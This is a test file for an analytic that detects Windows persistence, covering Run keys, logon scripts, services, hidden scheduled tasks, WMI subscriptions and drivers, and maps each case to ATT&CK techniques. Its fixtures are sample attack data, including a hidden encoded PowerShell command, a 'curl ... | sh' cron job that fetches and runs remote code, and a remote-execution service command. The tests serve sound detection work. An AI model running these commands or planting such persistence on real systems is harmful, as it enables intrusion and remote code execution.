import { describe, expect, it } from 'vitest';
import { event, findingsOf } from '../../../../tests/support/event-store.ts';
import { analytic } from './index.ts';
import { placeOf } from './places.ts';

const set = { event_action: 'value-set', host_name: 'pc7', process_pid: 7 } as const;
const run = 'HKU\\S-1-5-21-1\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater';

describe('what Windows starts by itself', () => {
  it('weighs a Run key that a script sets to a hidden command as high', async () => {
    const [finding] = await findingsOf(analytic, [
      event('registry', {
        ...set,
        registry_path: run,
        registry_data: 'powershell -w hidden -enc SQBFAFgA',
        process_name: 'wscript.exe',
        process_executable: 'C:\\Windows\\System32\\wscript.exe',
        user_name: 'EXAMPLE\\anna',
      }),
    ]);
    expect(finding).toMatchObject({
      detector: 'analytics/windows-persistence',
      severity: 'critical',
      attack: ['T1547.001'],
      title: `wscript.exe set the start at log-on (Run key) ${run}`,
    });
    expect(finding?.entities).toEqual([
      { kind: 'host', value: 'pc7' },
      { kind: 'process', value: 'pc7/7/wscript.exe' },
      { kind: 'executable', value: 'C:\\Windows\\System32\\wscript.exe' },
      { kind: 'user', value: 'EXAMPLE\\anna' },
    ]);
  });

  it.each([
    [
      'a program that sets its own Run key',
      { registry_data: '"C:\\Program Files\\X\\x.exe" /tray', process_name: 'x.exe' },
    ],
    [
      'one that lives in the folders of its user',
      { registry_data: 'C:\\Users\\anna\\AppData\\Local\\X\\x.exe', process_name: 'x.exe' },
    ],
    ['an installer', { registry_data: 'C:\\Windows\\System32\\cmd.exe /c x', process_name: 'msiexec.exe' }],
  ])('says nothing about %s', async (_what, fields) => {
    expect(await findingsOf(analytic, [event('registry', { ...set, registry_path: run, ...fields })])).toEqual([]);
  });

  it('leaves jobs and services of Linux to their own analytic', async () => {
    const created = { event_action: 'created', host_name: 'web1', task_type: 'task' } as const;
    const job = event('scheduled_task', {
      ...created,
      task_name: '/etc/cron.d/x',
      task_command: 'curl http://203.0.113.7/x | sh',
    });
    const service = event('scheduled_task', {
      ...created,
      task_type: 'service',
      task_name: 'x',
      task_command: '/tmp/x',
    });
    expect(await findingsOf(analytic, [job, service])).toEqual([]);
  });

  it('tells a log-on script in a temporary folder', async () => {
    const [finding] = await findingsOf(analytic, [
      event('registry', {
        ...set,
        registry_path: 'HKU\\S-1-5-21-1\\Environment\\UserInitMprLogonScript',
        registry_data: 'C:\\Users\\anna\\AppData\\Local\\Temp\\art.bat',
        process_name: 'reg.exe',
      }),
    ]);
    expect(finding).toMatchObject({ severity: 'critical', attack: ['T1037.001'] });
  });

  it('tells a service of a tool for remote execution, and not one of a program', async () => {
    const service = { event_action: 'created', task_type: 'service', host_name: 'pc7' } as const;
    const findings = await findingsOf(analytic, [
      event('scheduled_task', {
        ...service,
        task_name: 'BTOBTO',
        task_command: '%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output',
      }),
      event('scheduled_task', { ...service, task_name: 'Printer', task_command: '"C:\\Program Files\\P\\p.exe"' }),
    ]);
    expect(findings).toMatchObject([{ title: 'somebody made the service BTOBTO', attack: ['T1543.003'] }]);
  });

  it('tells a hidden task that runs a script, and a WMI subscription', async () => {
    const made = { event_action: 'created', host_name: 'pc7' } as const;
    const findings = await findingsOf(analytic, [
      event('scheduled_task', {
        ...made,
        task_type: 'task',
        task_name: '\\U',
        task_command: 'wscript.exe',
        task_arguments: 'C:\\x.vbs',
        task_hidden: true,
      }),
      event('scheduled_task', {
        ...made,
        task_type: 'subscription',
        task_name: 'F',
        task_command: 'CommandLineEventConsumer',
      }),
      event('scheduled_task', {
        ...made,
        task_type: 'task',
        task_name: '\\Microsoft\\Windows\\X',
        task_command: '%windir%\\system32\\x.exe',
      }),
    ]);
    expect(findings.map(({ attack }) => attack[0])).toEqual(['T1546.003', 'T1053.005']);
  });

  it('tells a driver out of a temporary folder, and not one of the system', async () => {
    const loaded = { event_action: 'load', host_name: 'pc7' } as const;
    const findings = await findingsOf(analytic, [
      event('kernel_module', { ...loaded, module_name: 'evil.sys', file_path: 'C:\\Windows\\Temp\\evil.sys' }),
      event('kernel_module', {
        ...loaded,
        module_name: 'ntfs.sys',
        file_path: 'C:\\Windows\\System32\\drivers\\ntfs.sys',
      }),
    ]);
    expect(findings.map(({ title }) => title)).toEqual(['somebody loaded the driver evil.sys']);
  });
});

describe('placeOf', () => {
  it.each([
    ['HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\x', 'T1547.001'],
    ['HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Userinit', 'T1547.004'],
    ['HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\Userlist\\x', undefined],
    [
      'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger',
      'T1546.012',
    ],
    ['HKLM\\System\\CurrentControlSet\\Services\\X\\ImagePath', 'T1543.003'],
    ['HKLM\\System\\CurrentControlSet\\Services\\X\\Start', undefined],
    ['HKLM\\System\\CurrentControlSet\\Control\\Lsa\\Security Packages', 'T1547.005'],
    ['HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\x', undefined],
  ])('%s', (path, technique) => {
    expect(placeOf(path)?.attack[0]).toBe(technique);
  });
});
